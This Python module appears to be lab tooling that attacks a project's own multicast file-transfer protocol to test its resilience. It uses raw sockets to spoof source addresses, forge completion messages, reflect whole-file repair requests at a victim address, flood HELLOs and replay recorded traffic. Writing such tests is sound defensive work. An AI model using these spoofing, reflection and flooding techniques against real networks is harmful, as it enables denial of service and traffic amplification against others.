"""A third host on the same network as a transfer, attacking it (issue 11): run inside
the attacker's lab namespace as ``python -m lab.attacker record|attack ...``.

``record`` joins the group (S,G) like any receiver could and saves every datagram of a
transfer (``--out``, length-prefixed), stopping once the sender said it closes.
Both commands print ``{"ready": true}`` once they listen, and one JSON result at the end.

``attack`` waits for the next transfer on the group, learns from its first datagrams
what anyone on the segment can read (the sender's address, the session id, the file
digest and size: datagrams are MAC'd, not encrypted), then, while it runs:

- forges COMPLETEs carrying the right file digest for invented receiver ids (unsigned,
  and signed with a guessed key), and one with a wrong digest;
- sends whole-file NACKs with a spoofed source address (a victim address it watches,
  to see whether the sender reflects repairs there) and spoofed as a real receiver;
- floods HELLOs with random receiver ids;
- replays the recorded earlier transfer to the group with the sender's source address.

It counts every byte it sent, and every byte that came back to its own or the victim's
address, and prints one JSON object. Spoofing needs a raw socket (root in the netns).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import select
import signal
import socket
import struct
import time
from pathlib import Path
from typing import Optional

from hostagent import wire
from hostagent.common import Layout

IP_ADD_SOURCE_MEMBERSHIP = 39  # Linux (socket module has it only from Python 3.12)


def _join(group: str, port: int, source: str, local: str) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sock.bind((group, port))
    mreq = struct.pack("4s4s4s", *(socket.inet_aton(a) for a in (group, local, source)))
    sock.setsockopt(socket.IPPROTO_IP, IP_ADD_SOURCE_MEMBERSHIP, mreq)
    return sock


def _udp_packet(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    """IPv4 + UDP headers around ``payload`` (the kernel fills the IP checksum and total
    length; a zero UDP checksum means "none" in IPv4)."""
    udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, random.getrandbits(16), 0, 8, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
    return ip + udp + payload


class Forger:
    """Sends datagrams from any source address (raw socket), counting bytes."""

    def __init__(self) -> None:
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent: dict[str, int] = {}
        self.bytes = 0

    def send(self, kind: str, src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> None:
        try:
            self._raw.sendto(_udp_packet(src, dst, payload), (dst[0], 0))
        except OSError:
            return  # (send buffer full: it simply did not go out)
        self.sent[kind] = self.sent.get(kind, 0) + 1
        self.bytes += len(payload)


def _ready() -> None:
    """First line of output: joined and listening (start the transfer now)."""
    print(json.dumps({"ready": True}), flush=True)


def record(args: argparse.Namespace) -> None:
    sock = _join(args.group, args.port, args.source, args.local)
    _ready()
    out: list[bytes] = []
    sender: Optional[tuple[str, int]] = None
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        if not select.select([sock], [], [], 0.2)[0]:
            continue
        data, addr = sock.recvfrom(65535)
        sender = sender or addr
        out.append(data)
        if wire.peek_type(data) == wire.T_END and data[4] & wire.FLAG_CLOSING:
            break
    with open(args.out, "wb") as f:
        for data in out:
            f.write(struct.pack("!I", len(data)) + data)
    print(json.dumps({"recorded": len(out), "sender": sender}), flush=True)


def _recorded(path: str) -> list[bytes]:
    raw = Path(path).read_bytes()
    out, pos = [], 0
    while pos < len(raw):
        (n,) = struct.unpack_from("!I", raw, pos)
        out.append(raw[pos + 4 : pos + 4 + n])
        pos += 4 + n
    return out


def attack(args: argparse.Namespace) -> None:
    listen = _join(args.group, args.port, args.source, args.local)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # what comes back to our own address
    own.bind((args.local, args.own_port))
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # ... and to the spoofed victim's
    victim.bind((args.victim, args.victim_port))
    _ready()
    replay = _recorded(args.replay)
    replay_src = tuple(json.loads(args.replay_from))
    forger = Forger()
    rng = random.Random(args.seed)
    guessed = wire.derive_key(b"a guess")
    back = {"own": 0, "victim": 0}
    sender: Optional[tuple[str, int]] = None
    manifest: Optional[wire.Manifest] = None
    phase_started = None
    last_complete = 0.0
    replayed = 0
    closing = False
    stop: list[int] = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))  # the test's "the transfer is over"
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline and not closing and not stop:
        ready = select.select([listen, own, victim], [], [], 0.01)[0]
        for sock in ready:
            data, addr = sock.recvfrom(65535)
            if sock is own:
                back["own"] += len(data)
                continue
            if sock is victim:
                back["victim"] += len(data)
                continue
            sender = sender or addr
            try:
                msg = wire.decode(data)  # no key: what anyone can read (the MAC is stripped unchecked)
            except wire.WireError:
                continue
            if isinstance(msg, wire.Manifest) and manifest is None:
                manifest = msg
            if isinstance(msg, wire.End) and msg.closing:
                closing = True
        if sender is None or manifest is None:
            continue
        now = time.monotonic()
        if phase_started is None:
            phase_started = now
            total = Layout(manifest.file_size, manifest.chunk_size, manifest.payload_size).total_seq
            session = manifest.session
            me = (args.local, args.own_port)
            # (c) a HELLO flood with random ids, from random addresses of the subnet and our own
            for i in range(args.hellos):
                src = me if i % 2 else (args.subnet + str(2 + rng.randrange(250)), 1024 + rng.randrange(60000))
                forger.send("hello", src, sender, wire.encode(wire.Hello(session, rng.getrandbits(64)),
                                                              guessed if i % 3 == 0 else None))
            # (b) whole-range NACKs: spoofed as the victim, and as a real receiver
            for i in range(args.nacks):
                src = (args.victim, args.victim_port) if i % 2 == 0 else (args.receiver_ip, 4000 + i)
                forger.send("nack", src, sender, wire.encode(wire.Nack(session, rng.getrandbits(64), ((0, total),)),
                                                             guessed if i % 4 == 0 else None))
        # (a) forged COMPLETEs while the transfer runs: invented ids with the right
        # digest, and one wrong digest, every 50 ms
        if now - last_complete >= 0.05:
            last_complete = now
            me = (args.local, args.own_port)
            for i in range(args.completes):
                forger.send("complete", me, sender,
                            wire.encode(wire.Complete(manifest.session, 0xF000 + i, manifest.file_digest),
                                        guessed if i % 2 else None))
            forger.send("complete_bad_digest", me, sender,
                        wire.encode(wire.Complete(manifest.session, 0xBAD, bytes(32)), guessed))
        # (d) the recorded earlier transfer, to the group, from the sender's address,
        # paced over the live stream
        due = int((now - phase_started) * args.replay_rate)
        while replayed < min(due, len(replay)):
            forger.send("replay", replay_src, (args.group, args.port), replay[replayed])  # type: ignore[arg-type]
            replayed += 1
    # Whatever the sender still sends back after its close (it should be nothing).
    end = time.monotonic() + (0.0 if stop else 1.0)
    while (left := end - time.monotonic()) > 0:
        for sock in select.select([own, victim], [], [], left)[0]:
            back["own" if sock is own else "victim"] += len(sock.recvfrom(65535)[0])
    print(json.dumps({"sent": forger.sent, "bytes_sent": forger.bytes, "bytes_back": back,
                      "saw_transfer": manifest is not None, "session": manifest and f"{manifest.session:016x}",
                      "saw_close": closing, "sender": sender,
                      "replayed": replayed, "recorded": len(replay)}), flush=True)


def main(argv: Optional[list[str]] = None) -> None:
    ap = argparse.ArgumentParser(prog="python -m lab.attacker")
    sub = ap.add_subparsers(dest="cmd", required=True)
    for name in ("record", "attack"):
        p = sub.add_parser(name)
        p.add_argument("--group", required=True)
        p.add_argument("--port", type=int, required=True)
        p.add_argument("--source", required=True, help="the sender's address (SSM join)")
        p.add_argument("--local", required=True, help="this host's address")
        p.add_argument("--seconds", type=float, default=60.0)
    rec = sub.choices["record"]
    rec.add_argument("--out", required=True)
    att = sub.choices["attack"]
    att.add_argument("--replay", required=True, help="a file from `record`")
    att.add_argument("--replay-from", required=True, help='JSON ["ip", port]: the recorded sender address')
    att.add_argument("--replay-rate", type=float, default=2000.0, help="replayed datagrams per second")
    att.add_argument("--victim", required=True, help="an address of ours the spoofed NACKs claim")
    att.add_argument("--victim-port", type=int, default=4999)
    att.add_argument("--own-port", type=int, default=4998)
    att.add_argument("--receiver-ip", required=True, help="a real receiver's address to spoof")
    att.add_argument("--subnet", required=True, help='e.g. "10.1.2." for random spoofed HELLO sources')
    att.add_argument("--hellos", type=int, default=20000)
    att.add_argument("--nacks", type=int, default=200)
    att.add_argument("--completes", type=int, default=20)
    att.add_argument("--seed", type=int, default=os.getpid())
    args = ap.parse_args(argv)
    record(args) if args.cmd == "record" else attack(args)


if __name__ == "__main__":
    main()
